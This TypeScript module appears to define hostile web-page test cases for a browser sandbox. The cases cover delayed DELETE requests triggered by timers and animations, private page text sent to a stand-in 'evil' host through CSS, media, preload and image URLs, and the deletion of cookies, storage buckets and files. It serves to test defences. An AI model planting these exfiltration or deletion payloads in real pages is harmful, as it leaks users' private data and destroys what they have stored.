/** RAMBLING_CLOCKS: hostile pages that act seconds after the press, let text of the page leave by rarer loads and in other letters, or throw away what newer stores hold. */
import type { Single } from './kind';
import { next, request } from './single-parts';

const later = (body: (path: string) => string, afterMs = 900): Single => request(body, afterMs);
const elsewhere = (body: (to: string) => string, afterMs = 500): Single => ({
  by: 'browser',
  afterMs,
  body: ({ path, evil }) => body(`${evil}${path}`),
});
const gone = (path: string) => `fetch('${path}/rows/7', {method: 'DELETE'})`;
const seen = (path: string) => `fetch('${path}/seen')`;
const away = (path: string) => `${path}/rows/7/delete`;

/** Clocks that run for longer than the browser takes to be idle. */
const SLOW = 4_300;
const CLOCKS: Readonly<Record<string, Single>> = {
  'long movement': later(
    (path) => next(`document.body.animate([{opacity: 1}, {opacity: 0.9}], 3200).onfinish = () => ${gone(path)}`),
    SLOW,
  ),
  'long task of the scheduler': later((path) => next(`scheduler.postTask(() => ${gone(path)}, {delay: 3200})`), SLOW),
  'long signal': later(
    (path) => next(`AbortSignal.timeout(3200).addEventListener('abort', () => ${gone(path)})`),
    SLOW,
  ),
  'long transition of a style': later(
    (path) =>
      `<p id="m" style="transition:opacity 3.2s">7</p><script>m.addEventListener('transitionend', () => ${gone(path)})</script>${next("m.style.opacity = '.8'")}`,
    SLOW,
  ),
  'long wait of a memory': later(
    (path) =>
      next(
        `Atomics.waitAsync(new Int32Array(new WebAssembly.Memory({initial: 1, maximum: 1, shared: true}).buffer), 0, 0, 3200).value.then(() => ${gone(path)})`,
      ),
    SLOW,
  ),
  'long wait of a worker': later(
    (path) =>
      next(
        'w.postMessage(7)',
        `w = new Worker(URL.createObjectURL(new Blob(["onmessage = () => setTimeout(() => postMessage(1), 3200)"], {type: 'text/javascript'}))); w.onmessage = () => ${gone(path)}`,
      ),
    SLOW,
  ),
  'timer of a frame': later(
    (path) =>
      `<iframe id="f" width="90" height="40"></iframe>${next(`f.contentWindow.setTimeout(() => ${gone(path)}, 3200)`)}`,
    SLOW,
  ),
  'page that refreshes itself after a while': later(
    (path) =>
      next(
        `m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '3;url=${away(path)}'; document.head.append(m)`,
      ),
    SLOW,
  ),
  'timers in a long row': later(
    (path) =>
      next(
        `let n = 0; const tick = () => { if (++n < 12) setTimeout(tick, 270); else ${gone(path)} }; setTimeout(tick, 270)`,
      ),
    SLOW,
  ),
  'frames of an animation until later': later(
    (path) =>
      next(
        `const t = performance.now(); const tick = () => { if (performance.now() - t < 3200) requestAnimationFrame(tick); else ${gone(path)} }; requestAnimationFrame(tick)`,
      ),
    SLOW,
  ),
};

/** Text of the page that leaves beside the address. */
const SECRET_PAGE =
  '<p id="t">Clara is to have her knee looked at on the ninth, and Ben must not hear a word of it before June.</p>';
const text = 'encodeURIComponent(t.textContent)';
const LEAVING: Readonly<Record<string, Single>> = {
  'key frame with text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`document.body.animate([{backgroundImage: 'url("${to}/g?d=' + ${text} + '")'}, {backgroundImage: 'none'}], 900)`)}`,
  ),
  'style of a rule with text': elsewhere(
    (to) =>
      `<style id="s">body{margin:1px}</style>${SECRET_PAGE}${next(`s.sheet.cssRules[0].style.backgroundImage = 'url("${to}/g?d=' + ${text} + '")'`)}`,
  ),
  'rule within a query, with text': elsewhere(
    (to) =>
      `<style id="s">@media all{p{margin:1px}}</style>${SECRET_PAGE}${next(`s.sheet.cssRules[0].insertRule('body{background:url("${to}/g?d=' + ${text} + '")}')`)}`,
  ),
  'property that a style reads, with text': elsewhere(
    (to) =>
      `<style>body{background:var(--g)}</style>${SECRET_PAGE}${next(`document.body.style.setProperty('--g', 'url("${to}/g?d=' + ${text} + '")')`)}`,
  ),
  'subtitles with text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`v = document.createElement('video'); v.crossOrigin = 'anonymous'; r = document.createElement('track'); v.append(r); document.body.append(v); r.track.mode = 'showing'; r.src = '${to}/v?d=' + ${text}`)}`,
  ),
  'module loaded ahead with text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`l = document.createElement('link'); l.rel = 'modulepreload'; l.href = '${to}/m?d=' + ${text}; document.head.append(l)`)}`,
  ),
  'picture for a screen with text': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`p = document.createElement('picture'); p.innerHTML = '<source><img>'; document.body.append(p); p.firstChild.srcset = '${to}/i?d=' + ${text} + ' 1x'`)}`,
  ),
  'request in the background with text': elsewhere(
    (to) => `${SECRET_PAGE}${next(`try { fetchLater('${to}/l?d=' + ${text}, {activateAfter: 0}) } catch {}`)}`,
  ),
  'text in letters of code': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`new Image().src = '${to}/i?d=' + [...new TextEncoder().encode(t.textContent)].map((one) => one.toString(16).padStart(2, '0')).join('')`)}`,
  ),
  'text backwards': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`new Image().src = '${to}/i?d=' + encodeURIComponent([...t.textContent].reverse().join(''))`)}`,
  ),
  'text in pieces': elsewhere(
    (to) =>
      `${SECRET_PAGE}${next(`t.textContent.match(/.{30}/g).forEach((one, n) => { new Image().src = '${to}/i' + n + '?d=' + encodeURIComponent(one) })`)}`,
  ),
  'text by its words with lines between': elsewhere(
    (to) => `${SECRET_PAGE}${next(`new Image().src = '${to}/i?d=' + t.textContent.replaceAll(' ', '_')`)}`,
  ),
  'text in the name of the host’s path, twice encoded': elsewhere(
    (to) => `${SECRET_PAGE}${next(`new Image().src = '${to}/' + encodeURIComponent(${text})`)}`,
  ),
};

/** Stores that newer interfaces throw away. */
const STORES: Readonly<Record<string, Single>> = {
  'bucket that is thrown away': later((path) =>
    next(
      `navigator.storageBuckets.delete('notes').then(async () => { if (!(await navigator.storageBuckets.keys()).includes('notes')) ${seen(path)} })`,
      "navigator.storageBuckets.open('notes').then((one) => { const ask = one.indexedDB.open('n', 1); ask.onupgradeneeded = () => ask.result.createObjectStore('n').put('The boat is to be sold in autumn', 1) })",
    ),
  ),
  'cookie of a draft that is taken out': later((path) =>
    next(
      `cookieStore.delete('draft').then(() => { if (!/draft/.test(document.cookie)) ${seen(path)} })`,
      "document.cookie = 'draft=' + encodeURIComponent('Dear Ann, the boat is to be sold in autumn if Greta agrees') + ';max-age=999999'",
    ),
  ),
  'file that takes the place of another': later((path) =>
    next(
      `(async () => { await other.move('boat-m.txt'); if ((await (await folder.getFileHandle('boat-m.txt')).getFile()).size < 9) ${seen(path)} })()`,
      "(async () => { folder = await navigator.storage.getDirectory(); for (const [n, t] of [['boat-m.txt', 'The boat is to be sold in autumn if Greta agrees, says the letter'], ['o.txt', 'x']]) { const f = await folder.getFileHandle(n, {create: true}); const w = await f.createWritable(); await w.write(t); await w.close(); other = f } })()",
    ),
  ),
  'file that goes by itself': later((path) =>
    next(
      `file.remove().then(() => folder.getFileHandle('boat-r.txt')).catch(() => ${seen(path)})`,
      "(async () => { folder = await navigator.storage.getDirectory(); file = await folder.getFileHandle('boat-r.txt', {create: true}); const w = await file.createWritable(); await w.write('The boat is to be sold in autumn if Greta agrees, says the letter'); await w.close() })()",
    ),
  ),
};

export const RAMBLING_CLOCKS: Readonly<Record<string, Single>> = {
  ...CLOCKS,
  ...LEAVING,
  ...STORES,
};
